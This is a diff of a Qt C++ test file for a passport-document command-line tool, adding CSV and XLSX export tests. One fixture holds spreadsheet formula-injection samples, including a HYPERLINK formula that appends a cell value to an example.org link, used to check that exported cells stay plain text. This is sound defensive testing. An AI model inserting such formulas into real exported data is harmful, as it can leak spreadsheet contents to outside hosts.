@@ -11,8 +11,12 @@
 
 #include <QDir>
 #include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QProcess>
 #include <QProcessEnvironment>
+#include <QRegularExpression>
 #include <QScopeGuard>
 #include <QTemporaryDir>
 #include <QTest>
@@ -73,6 +77,18 @@ PassportSnapshot plainPassport()
     return p;
 }
 
+// Texts a spreadsheet would take for a formula, a number or a separator.
+PassportSnapshot spreadsheetBait()
+{
+    PassportSnapshot p = plainPassport();
+    p.title = QStringLiteral("=1+1");
+    p.postIndex = QStringLiteral("012345");
+    p.postAddress = QStringLiteral("Москва; ул. Ленина, 1");
+    p.phone = QStringLiteral("+79161234567");
+    p.notes = QStringLiteral("=HYPERLINK(\"http://example.org/?\"&A2;\"Открыть\")\r\n@SUM(1)\t-2+3");
+    return p;
+}
+
 QByteArray fileOf(const PassportSnapshot& passport)
 {
     return serializePassportDocument(BuildPassportDocument(passport, PassportDocumentKind::Saved, kStored));
@@ -86,6 +102,8 @@ QByteArray content(const QString& kind)
         return sound;
     if (kind == u"plain")
         return fileOf(plainPassport());
+    if (kind == u"spreadsheet bait")
+        return fileOf(spreadsheetBait());
     if (kind == u"truncated")
         return sound.left(sound.size() / 2);
     if (kind == u"empty")
@@ -166,7 +184,7 @@ QList<QStringList> csvRecords(const QString& text)
     for (qsizetype i = 0; i < text.size(); ++i) {
         const QChar c = text.at(i);
         if (quoted) {
-            if (c == u'"' && text.mid(i + 1, 1) == u"\"") {
+            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                 field += c;
                 ++i;
             } else if (c == u'"') {
@@ -179,7 +197,7 @@ QList<QStringList> csvRecords(const QString& text)
         } else if (c == u',') {
             fields << field;
             field.clear();
-        } else if (c == u'\r' && text.mid(i + 1, 1) == u"\n") {
+        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
             records << (fields << field);
             fields.clear();
             field.clear();
@@ -189,6 +207,40 @@ QList<QStringList> csvRecords(const QString& text)
         }
     }
     return records;
+}
+
+// A spreadsheet as Python's openpyxl reads it: the sheet names, the frozen cell, the column widths,
+// and per cell its value, type, boldness and wrapping.
+QJsonObject readSpreadsheet(const QString& path)
+{
+    static const char* const script = R"(
+import json, sys, openpyxl
+from openpyxl.utils import get_column_letter
+book = openpyxl.load_workbook(sys.argv[1])
+sheet = book.active
+print(json.dumps({
+    "sheets": book.sheetnames,
+    "frozen": sheet.freeze_panes,
+    "widths": [sheet.column_dimensions[get_column_letter(i + 1)].width for i in range(sheet.max_column)],
+    "rows": [[{"value": c.value, "type": c.data_type, "bold": bool(c.font.b), "wrap": bool(c.alignment.wrap_text)}
+              for c in row] for row in sheet.iter_rows()],
+}))
+)";
+    QProcess python;
+    python.start(QStringLiteral(LUMARINDA_PYTHON), {QStringLiteral("-c"), QString::fromUtf8(script), path});
+    if (!python.waitForFinished(60000) || python.exitCode() != 0) {
+        qWarning("%s", python.readAllStandardError().constData());
+        return {};
+    }
+    return QJsonDocument::fromJson(python.readAllStandardOutput()).object();
+}
+
+// The reader names where in the file XML goes wrong; the numbers follow the layout of the file,
+// the words must stay.
+QString withPositionsHidden(QString text)
+{
+    static const QRegularExpression position(QStringLiteral("\\(строка \\d+, позиция \\d+\\)"));
+    return text.replace(position, QStringLiteral("(строка N, позиция M)"));
 }
 
 QByteArrayList bytesOf(const QStringList& args)
@@ -287,6 +339,7 @@ private slots:
     void check_data();
     void check();
     void listIsCsv();
+    void listGoesToAFileOrASpreadsheet();
     void listReportsBrokenFilesOnStandardErrorOnly();
     void badInputGivesALineEach();
     void hostileNamesAndContent_data();
@@ -338,11 +391,11 @@ void CommandLineTest::check_data()
         << folder << QStringList{"--check", "works"}
         << "works/B.QDX.XML: OK\n"
            "works/a.qdx.xml: OK\n"
-           "works/sub/c.qdx.xml: Текст файла не является правильным документом XML (строка 13, позиция 986)\n"
+           "works/sub/c.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
            "works/sub/d.Qdx.Xml: Неверный контрольный код в идентификаторе участника «123-456-789»\n"
            "works/sub/deeper/i.qdx.xml: OK\n"
            "works/sub/e.qdx.xml: Корневой элемент документа — «passport», а не «lumarinda»\n"
-           "works/sub/f.qdx.xml: Текст файла не является правильным документом XML (строка 1, позиция 0)\n"
+           "works/sub/f.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
            "works/sub/g.qdx.xml: Текст файла не в кодировке UTF-8\n"
            "works/sub/h.qdx.xml: У элемента «work» лишний атрибут «author»\n"
            "Проверено 9, исправных 3, с ошибками 6\n"
@@ -384,7 +437,7 @@ void CommandLineTest::check()
     putAll(files);
 
     const Run result = run(bytesOf(args));
-    QCOMPARE(result.out, expected);
+    QCOMPARE(withPositionsHidden(result.out), expected);
     QCOMPARE(result.err, QString());
     QCOMPARE(result.status, status);
 }
@@ -398,21 +451,82 @@ void CommandLineTest::listIsCsv()
     Output out(outBytes);
     Output err(errBytes);
     const int status = runCommandLine({"--list", "in"}, out, err);
-    const QString expected =
-        QStringLiteral("Файл,Сохранён (UTC),Название,Разделы,Языки,Авторы,Руководители,Получатель счёта,Индекс,Адрес,"
-                       "Телефон,Эл. почта,Ширина рисунка,Высота рисунка,Подпись к рисунку,Комментарий\r\n"
-                       "in/a.qdx.xml,2026-12-10T11:36:05Z,\"Сказка о \"\"Золотой рыбке\"\", часть 1\","
-                       "6 Лингвистика; 22 В помощь учителю,26 Английский язык; другое: суахили,"
-                       "123-456-798 Иванов Иван Иванович; 100-018-305 Петров Пётр Петрович,"
-                       "765-432-193 Ёлкина-Соколова Анна Сергеевна; 100-018-799 Сидорова Мария Ильинична,"
-                       "100-018-799 Сидорова Мария Ильинична,123456,\"Москва, ул. Ленина, 1\",+7 900 000-00-00,"
-                       "school@example.ru,40,30,Рыбка,\"Первая строка\r\nвторая, с \"\"кавычками\"\"\"\r\n"
-                       "in/b.qdx.xml,2026-12-10T11:36:05Z,Звёздное небо,\"1 Астрономия, космонавтика и авиация\",,"
-                       "123-456-798 Иванов Иван Иванович,,,,,,,,,,\r\n");
+    const QString expected = QStringLiteral(
+        "\"Файл\",\"Сохранён (UTC)\",\"Название\",\"Разделы\",\"Языки\",\"Авторы\",\"Руководители\","
+        "\"Получатель счёта\",\"Индекс\",\"Адрес\",\"Телефон\",\"Эл. почта\",\"Ширина рисунка\",\"Высота рисунка\","
+        "\"Подпись к рисунку\",\"Комментарий\"\r\n"
+        "\"in/a.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Сказка о \"\"Золотой рыбке\"\", часть 1\","
+        "\"6 Лингвистика; 22 В помощь учителю\",\"26 Английский язык; другое: суахили\","
+        "\"123-456-798 Иванов Иван Иванович; 100-018-305 Петров Пётр Петрович\","
+        "\"765-432-193 Ёлкина-Соколова Анна Сергеевна; 100-018-799 Сидорова Мария Ильинична\","
+        "\"100-018-799 Сидорова Мария Ильинична\",\"123456\",\"Москва, ул. Ленина, 1\",\"+7 900 000-00-00\","
+        "\"school@example.ru\",\"40\",\"30\",\"Рыбка\",\"Первая строка\r\nвторая, с \"\"кавычками\"\"\"\r\n"
+        "\"in/b.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Звёздное небо\",\"1 Астрономия, космонавтика и авиация\",\"\","
+        "\"123-456-798 Иванов Иван Иванович\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\"\r\n");
     QVERIFY(outBytes.startsWith("\xEF\xBB\xBF"));
     QCOMPARE(QString::fromUtf8(outBytes.mid(3)), expected);
     QCOMPARE(QString::fromUtf8(errBytes), QString());
     QCOMPARE(status, 0);
+}
+
+// The list in a file is the list on standard output; in a spreadsheet every cell is the CSV's
+// field as text, so no formula runs and "012345" or "+7..." stay as typed.
+void CommandLineTest::listGoesToAFileOrASpreadsheet()
+{
+    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=plain", "in/c.qdx.xml=spreadsheet bait", "in/d.qdx.xml=truncated"});
+    const Run csv = run({"--list", "in"});
+    QCOMPARE(csv.status, 1);
+    const QList<QStringList> records = csvRecords(csv.out);
+    QCOMPARE(records.size(), 4);
+    QCOMPARE(records.at(3).at(2), QStringLiteral("=1+1"));
+
+    const Run toFile = run({"--list", "-o", "list.csv", "in"});
+    QCOMPARE(toFile.out, QString());
+    QCOMPARE(toFile.err, csv.err);
+    QCOMPARE(toFile.status, 1);
+    QFile file(QStringLiteral("list.csv"));
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray bytes = file.readAll();
+    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
+    QCOMPARE(QString::fromUtf8(bytes), csv.out);
+
+    const Run toSheet = run({"--list", "--output=list.XLSX", "in"});
+    QCOMPARE(toSheet.out, QString());
+    QCOMPARE(toSheet.err, csv.err);
+    QCOMPARE(toSheet.status, 1);
+    const QJsonObject book = readSpreadsheet(QStringLiteral("list.XLSX"));
+    QCOMPARE(book.value(u"sheets").toArray(), QJsonArray{QStringLiteral("Паспорта")});
+    QCOMPARE(book.value(u"frozen").toString(), QStringLiteral("A2"));
+    const QJsonArray rows = book.value(u"rows").toArray();
+    QCOMPARE(rows.size(), records.size());
+    const QStringList header = records.constFirst();
+    const QJsonArray widths = book.value(u"widths").toArray();
+    QCOMPARE(widths.size(), header.size());
+    for (qsizetype c = 0; c < header.size(); ++c)
+        QVERIFY2(widths.at(c).toDouble() >= header.at(c).size(), qPrintable(header.at(c)));
+    for (qsizetype r = 0; r < records.size(); ++r) {
+        const QJsonArray cells = rows.at(r).toArray();
+        QCOMPARE(cells.size(), header.size());
+        for (qsizetype c = 0; c < header.size(); ++c) {
+            const QJsonObject cell = cells.at(c).toObject();
+            const QString where = QStringLiteral("row %1, %2").arg(r + 1).arg(header.at(c));
+            // A spreadsheet cell breaks lines with a line feed alone.
+            const QString expected = QString(records.at(r).at(c)).replace(QStringLiteral("\r\n"), QStringLiteral("\n"));
+            if (expected.isEmpty()) {
+                QVERIFY2(cell.value(u"value").isNull(), qPrintable(where));
+                continue;
+            }
+            QCOMPARE(cell.value(u"value").toString(), expected);
+            QVERIFY2(cell.value(u"type").toString() == u"s", qPrintable(where));
+            QCOMPARE(cell.value(u"bold").toBool(), r == 0);
+        }
+    }
+    const QJsonArray bait = rows.at(3).toArray();
+    QCOMPARE(bait.at(2).toObject().value(u"value").toString(), QStringLiteral("=1+1"));
+    QCOMPARE(bait.at(8).toObject().value(u"value").toString(), QStringLiteral("012345"));
+    QCOMPARE(bait.at(10).toObject().value(u"value").toString(), QStringLiteral("+79161234567"));
+    QVERIFY(bait.at(15).toObject().value(u"wrap").toBool());
+    QVERIFY(!bait.at(0).toObject().value(u"wrap").toBool());
 }
 
 void CommandLineTest::listReportsBrokenFilesOnStandardErrorOnly()
@@ -420,7 +534,7 @@ void CommandLineTest::listReportsBrokenFilesOnStandardErrorOnly()
     putAll({"in/a.qdx.xml=plain", "in/b.qdx.xml=wrong root"});
     const Run result = run({"--list", "in"});
     QCOMPARE(result.out.count(QStringLiteral("\r\n")), 2);
-    QVERIFY(result.out.contains(QStringLiteral("\r\nin/a.qdx.xml,")));
+    QVERIFY(result.out.contains(QStringLiteral("\r\n\"in/a.qdx.xml\",")));
     QVERIFY(!result.out.contains(QStringLiteral("b.qdx.xml")));
     QCOMPARE(result.err, QStringLiteral("in/b.qdx.xml: Корневой элемент документа — «passport», а не «lumarinda»\n"));
     QCOMPARE(result.status, 1);
@@ -528,7 +642,7 @@ void CommandLineTest::hostileNamesAndContent()
     QCOMPARE(check.status, sound ? 0 : 1);
 
     const Run list = run({"--list", "in"});
-    const QList<QStringList> records = csvRecords(list.out.mid(1));
+    const QList<QStringList> records = csvRecords(list.out);
     QCOMPARE(records.size(), sound ? 2 : 1);
     if (sound) {
         QCOMPARE(records.at(1).constFirst() + QStringLiteral(": OK"), line);
@@ -588,6 +702,12 @@ void CommandLineTest::usage_data()
     QTest::newRow("two modes") << QStringList{"--check", "--list", "a"} << "неизвестный ключ «--list»";
     QTest::newRow("short option") << QStringList{"--check", "-v", "a"} << "неизвестный ключ «-v»";
     QTest::newRow("empty path") << QStringList{"--check", ""} << "пустой путь";
+    QTest::newRow("output for --check") << QStringList{"--check", "-o", "a.csv", "a"} << "неизвестный ключ «-o»";
+    QTest::newRow("output without its file") << QStringList{"--list", "a", "-o"} << "после -o не указан файл";
+    QTest::newRow("output with an empty file")
+        << QStringList{"--list", "--output=", "a"} << "после --output не указан файл";
+    QTest::newRow("output twice") << QStringList{"--list", "-o", "a.csv", "--output", "b.csv", "a"}
+                                  << "ключ --output указан дважды";
     QTest::newRow("help with more") << QStringList{"--help", "x"} << "у --help нет аргументов";
     QTest::newRow("version with more") << QStringList{"--version", "--check"} << "у --version нет аргументов";
 }
@@ -612,7 +732,7 @@ void CommandLineTest::helpAndVersion()
     QCOMPARE(help.status, 0);
     QCOMPARE(help.err, QString());
     QVERIFY(help.out.startsWith(QStringLiteral("Использование:\n")));
-    for (const char* mode : {"--check ФАЙЛ_ИЛИ_ПАПКА...", "--list ФАЙЛ_ИЛИ_ПАПКА...", "--help", "--version"})
+    for (const char* mode : {"--check ФАЙЛ_ИЛИ_ПАПКА...", "--list [-o ВЫВОД] ФАЙЛ_ИЛИ_ПАПКА...", "--help", "--version"})
         QVERIFY2(help.out.contains(QStringLiteral("lumarinda-passport ") + QString::fromUtf8(mode)), mode);
 }
 
@@ -629,11 +749,10 @@ void CommandLineTest::realBinaryNeedsNoDisplay()
     QVERIFY2(program.waitForFinished(60000), "the program did not end");
     const QString err = QString::fromUtf8(program.readAllStandardError());
     QCOMPARE(err, QString());
-    QCOMPARE(
-        QString::fromUtf8(program.readAllStandardOutput()),
-        QStringLiteral("ssh/a.qdx.xml: OK\n"
-                       "ssh/b.qdx.xml: Текст файла не является правильным документом XML (строка 13, позиция 986)\n"
-                       "Проверено 2, исправных 1, с ошибками 1\n"));
+    QCOMPARE(withPositionsHidden(QString::fromUtf8(program.readAllStandardOutput())),
+             QStringLiteral("ssh/a.qdx.xml: OK\n"
+                            "ssh/b.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
+                            "Проверено 2, исправных 1, с ошибками 1\n"));
     QCOMPARE(program.exitStatus(), QProcess::NormalExit);
     QCOMPARE(program.exitCode(), 1);
 }
@@ -656,6 +775,15 @@ void CommandLineTest::lostOutputIsAFailure_data()
         QTest::newRow(name + " into a closed pipe")
             << QStringList{mode, "in"} << Sink::ClosedPipe << Sink::File << closed;
     }
+    QTest::newRow("a CSV file on a full disk")
+        << QStringList{"--list", "-o", "/dev/full", "in"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «/dev/full» не записан: на диске нет места\n");
+    QTest::newRow("a spreadsheet on a full disk")
+        << QStringList{"--list", "-o", "full.xlsx", "in/a.qdx.xml"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «full.xlsx» не записан: на диске нет места\n");
+    QTest::newRow("a spreadsheet in a missing folder")
+        << QStringList{"--list", "-o", "gone/list.xlsx", "in"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «gone/list.xlsx» не создан: файл или папка не существует\n");
     QTest::newRow("--help onto a full disk") << QStringList{"--help"} << Sink::FullDisk << Sink::File << full;
     QTest::newRow("--version into a closed pipe")
         << QStringList{"--version"} << Sink::ClosedPipe << Sink::File << closed;
@@ -676,6 +804,7 @@ void CommandLineTest::lostOutputIsAFailure()
     // A broken file gives the error stream a line of its own; the link a note.
     putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=truncated"});
     QCOMPARE(::symlink("in", "up"), 0);
+    QCOMPARE(::symlink("/dev/full", "full.xlsx"), 0);
 
     const Ended ended = runProgram(bytesOf(args), out, err);
     QCOMPARE(ended.status, 3);
